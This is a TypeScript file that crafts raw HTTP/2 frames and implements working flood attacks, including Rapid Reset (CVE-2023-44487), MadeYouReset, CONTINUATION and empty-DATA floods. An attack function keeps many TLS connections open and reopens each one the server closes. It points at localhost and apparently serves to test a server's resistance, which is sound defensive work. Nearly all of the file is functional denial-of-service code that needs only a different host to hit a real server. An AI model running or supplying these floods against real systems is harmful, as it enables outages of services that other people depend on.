// Clients of HTTP/2 that mean no good, frame by frame (RFC 9113, 4 and 6): each kind of frame that costs its sender nothing.
import { connect, type TLSSocket } from 'node:tls';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const BATCH = 100;

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// HPACK (RFC 7541, A and 6.2.2): :method from the static table, :scheme https, :path /metrics, :authority a.
const block = (method: number) =>
  Buffer.from([method, 0x87, 0x04, 8, ...Buffer.from('/metrics'), 0x01, 1, ...Buffer.from('a')]);
const GET = block(0x82);
const POST = block(0x83);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NO_INCREMENT = Buffer.alloc(4);
const JUNK = Buffer.concat([Buffer.from([0x00, 0x01]), Buffer.from('x'), Buffer.from([0x7e]), Buffer.alloc(126, 'y')]);

const repeat = (bytes: Buffer) => Buffer.concat(Array.from({ length: BATCH }, () => bytes));
/** The streams of the batch of this number. */
const streams = (batch: number, of: (stream: number) => Buffer) =>
  Buffer.concat(Array.from({ length: BATCH }, (_, i) => of(2 * (batch * BATCH + i) + 1)));

/** The nth batch of bytes after the preface. */
export type Flood = (batch: number) => Buffer;

export const FLOODS = {
  ping: () => repeat(frame(PING, 0, 0, Buffer.alloc(8))),
  settings: () => repeat(frame(SETTINGS, 0, 0)),
  // CVE-2023-44487
  reset: (batch) =>
    streams(batch, (id) =>
      Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, id, GET), frame(RST_STREAM, 0, id, CANCEL)]),
    ),
  // CVE-2025-8671: the server resets what is not allowed.
  'made you reset': (batch) =>
    streams(batch, (id) =>
      Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, id, GET), frame(WINDOW_UPDATE, 0, id, NO_INCREMENT)]),
    ),
  // CVE-2024-28182
  continuation: (batch) =>
    Buffer.concat([
      ...(batch === 0 ? [frame(HEADERS, END_STREAM, 1, GET)] : []),
      repeat(frame(CONTINUATION, 0, 1, JUNK)),
    ]),
  // CVE-2019-9518
  'empty data': (batch) =>
    Buffer.concat([...(batch === 0 ? [frame(HEADERS, END_HEADERS, 1, POST)] : []), repeat(frame(DATA, 0, 1))]),
  priority: () => repeat(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 16]))),
  requests: (batch) => streams(batch, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, GET)),
} satisfies Record<string, Flood>;

export interface Attack {
  /** How many connections the server has ended, and how many batches it was sent. */
  counts(): { readonly ended: number; readonly batches: number };
  stop(): void;
}

/** Sends the flood by so many connections, each begun again when it is ended, until `stop`. `reads`: whether it takes the answers; `pauseMs`: between two batches; ten times that before the next connection. */
export function attack(port: number, flood: Flood, connections: number, reads = true, pauseMs = 1): Attack {
  let stopped = false;
  let ended = 0;
  let batches = 0;
  const open = new Set<TLSSocket>();

  const begin = () => {
    const socket = connect({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false });
    open.add(socket);
    if (reads) socket.resume();
    let batch = 0;
    const more = () => {
      if (stopped || socket.destroyed) return;
      batches++;
      if (socket.write(flood(batch++))) setTimeout(more, pauseMs);
      else socket.once('drain', more);
    };
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0)]));
      more();
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      open.delete(socket);
      if (stopped) return;
      ended++;
      setTimeout(begin, 10 * pauseMs);
    });
  };
  for (let i = 0; i < connections; i++) begin();
  return {
    counts: () => ({ ended, batches }),
    stop: () => {
      stopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}
